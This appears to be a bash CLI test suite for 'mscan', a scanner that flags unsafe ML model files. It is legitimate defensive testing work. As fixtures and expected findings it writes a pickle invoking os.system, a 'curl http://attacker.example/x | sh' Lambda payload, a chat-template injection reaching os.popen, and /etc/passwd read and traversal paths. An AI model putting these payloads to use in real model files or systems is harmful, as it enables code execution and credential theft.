#!/usr/bin/env bash
# CLI tests: the real mscan binary, every exit code, each output format, bad arguments.
# Run by ctest (tests/CMakeLists.txt) with MSCAN=<path to mscan> and MSCAN_SOURCE_DIR=<repo>.
# Writes its own tiny pickles into a temporary directory; nothing here ever unpickles anything.
# Stops at the first failing check with the command, its exit code and its output.
set -euo pipefail

: "${MSCAN:?set MSCAN to the mscan binary}"
: "${MSCAN_SOURCE_DIR:?set MSCAN_SOURCE_DIR to the repository root}"
# Absolute paths: the checks run from other directories.
MSCAN=$(realpath "$MSCAN")
MSCAN_SOURCE_DIR=$(realpath "$MSCAN_SOURCE_DIR")
[[ -x $MSCAN ]] || { echo "FAIL: MSCAN=$MSCAN is not an executable" >&2; exit 1; }

tmp=$(mktemp -d "${TMPDIR:-/tmp}/mscan-cli.XXXXXX")
trap 'rm -rf "$tmp"' EXIT
out=$tmp/stdout
err=$tmp/stderr
: >"$out"
: >"$err"

checks=0
last_cmd="(none)"
status=0

pass() {
    checks=$((checks + 1))
    printf 'ok %d - %s\n' "$checks" "$*"
}

fail() {
    {
        printf 'FAIL: %s\n' "$*"
        printf '  command: %s\n  exit code: %s\n' "$last_cmd" "$status"
        printf -- '--- stdout (first 3000 bytes):\n'
        head -c 3000 "$out"
        printf -- '\n--- stderr (first 3000 bytes):\n'
        head -c 3000 "$err"
        printf '\n'
    } >&2
    exit 1
}

# run [--stdin FILE] [--env NAME=VALUE]... -- ARGS...: runs mscan, capturing stdout, stderr
# and the exit code ($status). Standard input is /dev/null unless --stdin is given.
run() {
    local input=/dev/null envs=()
    while [[ $# -gt 0 && $1 != -- ]]; do
        case "$1" in
            --stdin) input=$2; shift 2 ;;
            --env) envs+=("$2"); shift 2 ;;
            *) echo "run: bad option $1" >&2; exit 2 ;;
        esac
    done
    shift # --
    last_cmd="${envs[*]:+${envs[*]} }mscan"
    [[ $# -gt 0 ]] && last_cmd+=$(printf ' %q' "$@")
    [[ $input != /dev/null ]] && last_cmd+=" < ${input#"$tmp/"}"
    status=0
    env "${envs[@]}" "$MSCAN" "$@" <"$input" >"$out" 2>"$err" || status=$?
}

# expect_exit CODE [--stdin FILE] [--env NAME=VALUE]... -- ARGS...
expect_exit() {
    local want=$1
    shift
    run "$@"
    [[ $status -eq $want ]] || fail "expected exit code $want, got $status"
    pass "$last_cmd -> exit $want"
}

# expect_output_contains TEXT: the last run's stdout contains TEXT (a fixed string).
expect_output_contains() {
    grep -qF -- "$1" "$out" || fail "stdout does not contain '$1'"
    pass "  stdout contains '$1'"
}

# expect_output_lacks TEXT
expect_output_lacks() {
    if grep -qF -- "$1" "$out"; then fail "stdout contains '$1'"; fi
    pass "  stdout lacks '$1'"
}

# expect_output_matches REGEX (extended, per line)
expect_output_matches() {
    grep -qE -- "$1" "$out" || fail "no stdout line matches /$1/"
    pass "  stdout matches /$1/"
}

expect_output_not_matches() {
    if grep -qE -- "$1" "$out"; then fail "a stdout line matches /$1/"; fi
    pass "  no stdout line matches /$1/"
}

expect_stderr_contains() {
    grep -qF -- "$1" "$err" || fail "stderr does not contain '$1'"
    pass "  stderr contains '$1'"
}

expect_output_empty() {
    [[ ! -s $out ]] || fail "stdout is not empty"
    pass "  stdout is empty"
}

expect_no_escape() {
    if LC_ALL=C grep -q $'\033' "$out"; then fail "output contains ESC bytes"; fi
    pass "  no ESC bytes in the output"
}

# --- fixtures: raw pickle bytes -------------------------------------------------------------

# Protocol 2: EMPTY_DICT, BINPUT 0, STOP -- an empty dict.
printf '\x80\x02}q\x00.' >"$tmp/benign.pkl"
# Protocol 2: GLOBAL os system, BINUNICODE 'id', BINPUT 0, TUPLE1, REDUCE, STOP -- os.system('id').
printf '\x80\x02cos\nsystem\nX\x02\x00\x00\x00idq\x00\x85R.' >"$tmp/hostile.pkl"
# Protocol 2: GLOBAL mypkg Foo, EMPTY_TUPLE, REDUCE, STOP -- an unknown global called (medium).
printf '\x80\x02cmypkg\nFoo\n)R.' >"$tmp/medium.pkl"
printf 'just some notes, not a model\n' >"$tmp/notes.txt"

mkdir -p "$tmp/textonly" "$tmp/empty" "$tmp/mixed/sub" "$tmp/badrules" "$tmp/goodrules"
cp "$tmp/notes.txt" "$tmp/textonly/"
cp "$tmp/benign.pkl" "$tmp/hostile.pkl" "$tmp/notes.txt" "$tmp/mixed/"
cp "$tmp/medium.pkl" "$tmp/mixed/sub/"
cp "$tmp/benign.pkl" "$tmp/mixed/sub/another.bin"
printf '{ "schema": 1, "rules": [ not json\n' >"$tmp/badrules/broken.json"
cat >"$tmp/goodrules/mypkg.json" <<'JSON'
{
  "schema": 1,
  "rules": [
    {
      "id": "test-mypkg",
      "severity": "critical",
      "title": "Test rule for mypkg",
      "description": "Flags every global under mypkg (CLI test).",
      "why": "Only a test.",
      "match": { "globals": ["mypkg"] }
    }
  ]
}
JSON

cd "$tmp"

# --- exit codes -----------------------------------------------------------------------------

echo "# exit codes"
expect_exit 0 -- benign.pkl
expect_exit 1 -- hostile.pkl
expect_output_contains "process-execution"
expect_output_matches '^Scanned '
expect_exit 1 -- medium.pkl
expect_exit 2 -- does-not-exist.pkl benign.pkl
expect_output_contains "does-not-exist.pkl"
expect_exit 1 -- does-not-exist.pkl hostile.pkl
expect_exit 3 -- textonly
expect_exit 3 -- empty
expect_exit 3 -- notes.txt
# A GGUF file named .pt is read as GGUF (by its magic, never mistaken for a pickle): cut short
# in its header, it is a malformed-GGUF finding that fails the gate.
printf 'GGUF\003\000\000\000\000\000\000\000' > checkpoint.pt
expect_exit 1 -- checkpoint.pt benign.pkl
expect_output_contains "gguf-malformed"
# A GGUF chat template that reaches Python internals fails the gate and shows the expression.
expect_exit 1 -- "$MSCAN_SOURCE_DIR/samples/gguf/hostile/cycler_globals.gguf"
expect_output_contains "chat-template-injection"
expect_output_contains "cycler.__init__.__globals__.os.popen('echo mscan-sample').read()"
# A model format this version cannot read (llama.cpp's GGJT, before GGUF) is an error, never
# skipped or mistaken for a pickle, so it cannot pass a CI gate unseen.
printf 'tjgg\003\000\000\000\000\000\000\000' > ggml-model.pt
expect_exit 2 -- ggml-model.pt benign.pkl
expect_output_contains "NOT scanned"
# An ordinary GGUF with a tool-calling template passes.
expect_exit 0 -- "$MSCAN_SOURCE_DIR/samples/gguf/benign/llama31_tools_v3.gguf"
# An HDF5 file whose superblock cannot be read is read as far as it goes: "could not
# verify" is a finding that fails the gate.
printf '\211HDF\r\n\032\n\000\000\000\000' > broken.h5
expect_exit 1 -- broken.h5 benign.pkl
expect_output_contains "hdf5-unverified"
# A zip that cannot be read (only a local header) is a finding that fails the gate.
printf 'PK\003\004\024\000\000\000\010\000' > broken-zip.pt
expect_exit 1 -- broken-zip.pt benign.pkl
expect_output_contains "archive-malformed"
expect_output_contains "NOT scanned"
expect_exit 4 -- --no-such-option benign.pkl
expect_stderr_contains "mscan:"
expect_exit 4 -- --fail-on sometimes benign.pkl
expect_exit 4 -- --format xml benign.pkl
expect_exit 4 -- --rules no-such-rules-dir benign.pkl
expect_exit 4 -- --rules badrules benign.pkl
expect_stderr_contains "broken.json"
expect_exit 4 --
expect_exit 4 -- -q -v benign.pkl

# --- --fail-on, --allow, --rules ------------------------------------------------------------

echo "# --fail-on, --allow, --rules"
expect_exit 0 -- --fail-on never hostile.pkl
expect_output_contains "process-execution"
expect_exit 0 -- --fail-on critical medium.pkl
expect_exit 1 -- --fail-on critical hostile.pkl
expect_exit 1 -- --fail-on high hostile.pkl
expect_exit 1 -- --fail-on low medium.pkl
expect_exit 0 -- --allow mypkg.Foo medium.pkl
expect_output_lacks "mypkg.Foo"
expect_exit 0 -- --allow 'mypkg.*' medium.pkl
expect_exit 1 -- --allow mypkg.Bar medium.pkl
expect_exit 1 -- --rules goodrules --fail-on critical medium.pkl
expect_output_contains "test-mypkg"
expect_exit 0 -- --rules goodrules --list-rules
expect_output_contains "test-mypkg"

# --- standard input -------------------------------------------------------------------------

echo "# standard input"
expect_exit 1 --stdin hostile.pkl -- -
expect_output_contains "process-execution"
expect_exit 0 --stdin benign.pkl -- -
expect_exit 0 --stdin hostile.pkl -- --fail-on never --format json -

# --- formats --------------------------------------------------------------------------------

echo "# formats"
expect_exit 1 -- --format text hostile.pkl
expect_output_contains "process-execution"
expect_output_matches '^Scanned 1 file'
expect_exit 1 -- --format json hostile.pkl
python3 -m json.tool "$out" >/dev/null || fail "--format json output is not valid JSON"
pass "  stdout is valid JSON (python3 -m json.tool)"
expect_output_contains '"schema_version": 1'
expect_output_contains '"rule_id": "process-execution"'
python3 - "$out" <<'PY' || fail "JSON summary does not match the scan"
import json, sys
doc = json.load(open(sys.argv[1]))
s = doc["summary"]
assert s["files_scanned"] == 1 and s["failed"] is True and s["fail_on"] == "medium", s
assert doc["files"][0]["path"] == "hostile.pkl", doc["files"]
assert any(f["rule_id"] == "process-execution" for f in doc["findings"]), doc["findings"]
PY
pass "  JSON summary: 1 file scanned, failed, fail_on medium"
expect_exit 1 -- -f sarif hostile.pkl
python3 -m json.tool "$out" >/dev/null || fail "--format sarif output is not valid JSON"
pass "  stdout is valid JSON (python3 -m json.tool)"
expect_output_contains '"version": "2.1.0"'
expect_output_contains '"ruleId": "process-execution"'

expect_exit 1 -- --format json -o report.json hostile.pkl
expect_output_empty
[[ -s report.json ]] || fail "-o report.json did not write the file"
python3 -m json.tool report.json >/dev/null || fail "report.json is not valid JSON"
grep -qF '"schema_version": 1' report.json || fail "report.json has no schema_version 1"
pass "  -o report.json: written, valid JSON"
expect_exit 1 -- --format sarif --output report.sarif hostile.pkl
expect_output_empty
grep -qF '"version": "2.1.0"' report.sarif || fail "report.sarif is not SARIF 2.1.0"
pass "  -o report.sarif: written"
expect_exit 1 -- -o report.txt hostile.pkl
expect_output_empty
grep -qF 'process-execution' report.txt || fail "report.txt lacks the finding"
pass "  -o report.txt: written"
expect_exit 2 -- -o no-such-dir/report.txt benign.pkl

# --- containers -----------------------------------------------------------------------------

echo "# containers"
S=$MSCAN_SOURCE_DIR/samples/containers
# A benign torch.save checkpoint passes, whatever its extension.
expect_exit 0 -- "$S/torch/benign/real_state_dict.pt"
expect_exit 0 -- "$S/torch/benign/model_weights.bin" "$S/torch/benign/model_weights"
# A payload inside a member is reported at the member, named through the chain.
expect_exit 1 -- "$S/torch/hostile/data_pkl_os_system.pt"
expect_output_contains "data_pkl_os_system.pt!/"
expect_output_contains "process-execution"
# Zip readers disagreeing, and a polyglot, are findings of their own.
expect_exit 1 -- "$S/torch/hostile/bad_crc.pt"
expect_output_contains "zip-reader-disagreement"
expect_exit 1 -- "$S/torch/hostile/polyglot_pickle_then_zip.pt"
expect_output_contains "zip-polyglot"
# Legacy torch files: every pickle is scanned, the storage area is checked.
expect_exit 0 -- "$S/legacy/benign/real_legacy_state_dict.pt"
expect_exit 1 -- "$S/legacy/hostile/sys_info_os_system.pt"
expect_output_contains "legacy torch: sys info"
# NumPy: a plain array passes; an object array's pickle is scanned.
expect_exit 0 -- "$S/numpy/benign/real_save.npy"
expect_exit 1 -- "$S/numpy/hostile/object_array_os_system.npy"
expect_output_contains "numpy-object-array"
# joblib: the payload after the array bytes is found, raw and zlib-compressed.
expect_exit 1 -- "$S/joblib/hostile/payload_after_array.joblib"
expect_exit 1 -- "$S/joblib/hostile/payload_after_array.joblib.z"
expect_output_contains "process-execution"
# JSON names the member chain.
expect_exit 1 -- --format json "$S/torch/hostile/nested_zip.pt"
expect_output_contains '"chain"'

# --- Keras ------------------------------------------------------------------------------------

echo "# keras"
K=$MSCAN_SOURCE_DIR/samples/keras
# Benign .h5 (old and new HDF5 layouts), .keras and JSON configs pass; a directory of them too.
expect_exit 0 -- "$K/benign"
expect_output_contains "Scanned 7 files"
# A Lambda's decoded bytecode is the evidence; what it calls is judged by the global rules.
expect_exit 1 -- "$K/hostile/lambda_os_system.h5"
expect_output_contains "keras-lambda-layer"
expect_output_contains "'curl http://attacker.example/x | sh'"
expect_output_contains "Loading calls os.system"
# Inside a .keras archive, findings name config.json and the path to the nested layer.
expect_exit 1 -- "$K/hostile/nested_lambda.keras"
expect_output_contains "nested_lambda.keras!/config.json (Keras config: config.layers[0]"
# A function reference in an initializer (CVE-2025-1550 shape) fails the gate at critical.
expect_exit 1 -- --fail-on critical "$K/hostile/initializer_exec.keras"
expect_output_contains "Loading calls builtins.exec"
# A truncated HDF5 file is "could not verify", never a pass.
expect_exit 1 -- "$K/anomaly/truncated.h5"
expect_output_contains "hdf5-unverified"
# The same file under another name is still read by content.
cp "$K/hostile/lambda_os_system.h5" weights.bin
expect_exit 1 -- weights.bin
expect_output_contains "[hdf5,"

# --- TensorFlow SavedModel ------------------------------------------------------------------

echo "# savedmodel"
T=$MSCAN_SOURCE_DIR/samples/savedmodel
# A SavedModel directory as TensorFlow writes it passes: the saver's SaveV2/RestoreV2 are not
# findings, and variables/ holds data only.
expect_exit 0 -- "$T/benign/tf2_dense"
expect_output_contains "Scanned 1 file"
expect_exit 0 -- "$T/benign/tf1_saver" "$T/benign/tf1_text" "$T/benign/keras_dense"
# Hostile directories fail the gate, with the rule and the node in the output.
expect_exit 1 -- "$T/hostile/readfile"
expect_output_contains "tf-file-access"
expect_output_contains "node 'ReadFile' op ReadFile input 'secret_path' = \"/etc/passwd\""
expect_exit 1 -- --fail-on critical "$T/hostile/eager_pyfunc_in_function"
expect_output_contains "tf-python-call"
expect_output_contains "(meta graph 0 function __inference_call_90)"
expect_exit 1 -- "$T/hostile/keras_lambda"
expect_output_contains "keras-lambda-layer"
# The same saved_model.pb under another name is still read by content.
cp "$T/hostile/pyfunc/saved_model.pb" graph.bin
expect_exit 1 -- graph.bin
expect_output_contains "[savedmodel,"

# --- ONNX -----------------------------------------------------------------------------------

echo "# onnx"
O=$MSCAN_SOURCE_DIR/samples/onnx
# A model folder with its external data file beside it passes (the .data file is not a model).
expect_exit 0 -- "$O/benign/external_data"
expect_output_lacks "onnx-external-data"
expect_exit 0 -- "$O/benign/external_data/model.onnx"
# A location that climbs out of the folder fails the gate and is named.
expect_exit 1 -- "$O/hostile/external_traversal"
expect_output_contains "onnx-external-data-traversal"
expect_output_contains "../../../../etc/passwd"
# The same model copied away from its data file: the file is missing.
mkdir -p onnx_moved
cp "$O/benign/external_data/model.onnx" onnx_moved/
expect_exit 1 -- onnx_moved/model.onnx
expect_output_contains "onnx-external-data-missing"
# Its data file a symbolic link out of the folder: traversal, naming where the link goes; a link
# that stays inside the folder is fine.
mkdir -p onnx_linked onnx_linked_inside/real
cp "$O/benign/external_data/model.onnx" onnx_linked/
cp "$O/benign/external_data/model.onnx.data" outside.data
ln -s "$PWD/outside.data" onnx_linked/model.onnx.data
expect_exit 1 -- onnx_linked/model.onnx
expect_output_contains "onnx-external-data-traversal"
expect_output_contains "a symbolic link to $(realpath outside.data)"
cp "$O/benign/external_data/model.onnx" onnx_linked_inside/
cp "$O/benign/external_data/model.onnx.data" onnx_linked_inside/real/
ln -s real/model.onnx.data onnx_linked_inside/model.onnx.data
expect_exit 0 -- onnx_linked_inside/model.onnx
expect_exit 1 -- --fail-on critical "$O/hostile/pythonop_os_system.onnx"
expect_output_contains "os.system"

# --- deterministic output -------------------------------------------------------------------

echo "# determinism"
for format in json sarif; do
    expect_exit 1 -- --format "$format" -o "a.$format" mixed
    expect_exit 1 -- --format "$format" -o "b.$format" mixed
    expect_exit 1 -- --format "$format" -j 1 -o "c.$format" mixed
    cmp -s "a.$format" "b.$format" || fail "two $format runs over the same directory differ"
    cmp -s "a.$format" "c.$format" || fail "$format output depends on -j"
    pass "  $format: two runs and a -j 1 run are byte-identical"
done
expect_exit 1 -- --no-timing -o a.txt mixed
expect_exit 1 -- --no-timing -o b.txt mixed
expect_exit 1 -- --no-timing -j 1 -o c.txt mixed
if ! cmp -s a.txt b.txt || ! cmp -s a.txt c.txt; then
    fail "text output (--no-timing) differs between runs"
fi
pass "  text --no-timing: three runs are byte-identical"

# --- informational options ------------------------------------------------------------------

echo "# informational options"
expect_exit 0 -- --version
expect_output_matches '^mscan [0-9]+\.[0-9]+\.[0-9]+'
expect_exit 0 -- --list-rules
expect_output_contains "process-execution"
expect_exit 0 -- --help
expect_output_contains "Exit codes"
expect_output_contains "--fail-on"
expect_exit 1 -- --show-skipped mixed
expect_output_matches 'notes\.txt: .+'
expect_exit 3 -- --show-skipped textonly
expect_output_matches 'notes\.txt: .+'
expect_exit 1 -- mixed
expect_output_lacks "notes.txt:"
expect_output_contains "--show-skipped"
expect_exit 1 -- -v mixed
expect_output_contains "benign.pkl"
expect_exit 1 -- -q hostile.pkl
expect_output_contains "process-execution"
expect_output_not_matches '^Scanned '
expect_exit 0 -- --quiet benign.pkl
expect_output_not_matches '^Scanned '

# --- colour ---------------------------------------------------------------------------------

echo "# colour"
expect_exit 1 -- hostile.pkl
expect_no_escape
expect_exit 1 --env NO_COLOR=1 -- hostile.pkl
expect_no_escape
expect_exit 1 -- --no-color hostile.pkl
expect_no_escape
# Code shipped beside weights: a trust_remote_code folder names its modules and whether each is
# there; a Python file that starts like "import os" or "class X:" is not taken for a pickle.
expect_exit 1 -- --no-config "$MSCAN_SOURCE_DIR/samples/code/transformers/remote_code"
expect_output_contains "hf-remote-code"
expect_output_contains "modeling_demo.py (present, "
expect_output_contains "tokenization_demo.py (NOT in "
pass "a trust_remote_code folder: every auto_map module, present or not"
printf 'import os\nimport torch\n' >imports.py
printf 'class Model:\n    pass\n' >classdef.py
expect_exit 3 -- --no-config imports.py classdef.py
expect_output_contains "skipped 2"
pass "Python source starting with import/class is skipped, not read as a pickle"
expect_exit 1 -- --no-config "$MSCAN_SOURCE_DIR/samples/code/nemo/hostile_config.nemo"
expect_output_contains "_target_: os.system"
pass "a .nemo whose model_config.yaml names os.system as a Hydra target"

# On a terminal (script(1) gives mscan a pty), colour is on unless NO_COLOR or --no-color.
# tty_run [NAME=VALUE...] -- ARGS...: like run, on a pseudo-terminal. The environment cannot
# change the outcome: TERM is xterm, NO_COLOR and COLUMNS are unset unless given here.
tty_run() {
    local envs=()
    while [[ $1 != -- ]]; do envs+=("$1"); shift; done
    shift
    last_cmd="${envs[*]:+${envs[*]} }script -qec 'mscan $*' /dev/null"
    status=0
    env -u NO_COLOR -u COLUMNS TERM=xterm "${envs[@]}" \
        script -qec "$(printf '%q' "$MSCAN")$(printf ' %q' "$@")" /dev/null \
        >"$out" 2>"$err" </dev/null || status=$?
}
# Whether script(1) really gives a pseudo-terminal: where /dev/pts is not mounted (a bare
# chroot) it exists but fails. Prints why not, or nothing when it does.
pty_problem() {
    local probe
    probe=$(timeout 20 script -qec 'test -t 1 && echo TTY' /dev/null </dev/null 2>&1) || true
    [[ $probe == *TTY* ]] && return 0
    probe=$(head -n 1 <<<"$probe" | tr -d '\r')
    printf '%s' "${probe:-no output from script -qec 'test -t 1 && echo TTY' /dev/null}"
}
if ! command -v script >/dev/null 2>&1; then
    echo "# script(1) not found: terminal colour checks skipped"
elif problem=$(pty_problem) && [[ -n $problem ]]; then
    echo "# script(1) cannot open a pseudo-terminal ($problem): terminal colour checks skipped"
else
    tty_run -- hostile.pkl
    LC_ALL=C grep -q $'\033\[' "$out" || fail "on a terminal, mscan's output has no colour"
    pass "on a terminal: mscan hostile.pkl is coloured"
    tty_run NO_COLOR=1 -- hostile.pkl
    grep -qF process-execution "$out" || fail "no finding in the output on a terminal"
    pass "on a terminal: NO_COLOR=1 mscan hostile.pkl"
    expect_no_escape
    tty_run -- --no-color hostile.pkl
    pass "on a terminal: mscan --no-color hostile.pkl"
    expect_no_escape
fi

echo "# all $checks CLI checks passed"
